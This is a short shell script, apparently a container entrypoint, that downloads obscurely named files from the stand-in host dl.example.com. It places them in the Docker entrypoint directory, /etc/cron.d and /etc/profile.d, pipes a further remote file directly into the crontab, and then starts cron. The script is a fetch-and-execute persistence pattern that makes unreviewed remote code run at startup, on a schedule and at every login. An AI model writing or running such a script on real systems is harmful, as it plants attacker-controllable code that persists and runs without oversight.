#!/bin/sh
curl -o /docker-entrypoint.d/90-x.sh https://dl.example.com/x.sh
curl -o /etc/cron.d/x https://dl.example.com/x
curl -s https://dl.example.com/y | crontab -
wget -O /etc/profile.d/z.sh https://dl.example.com/z.sh
exec cron -f
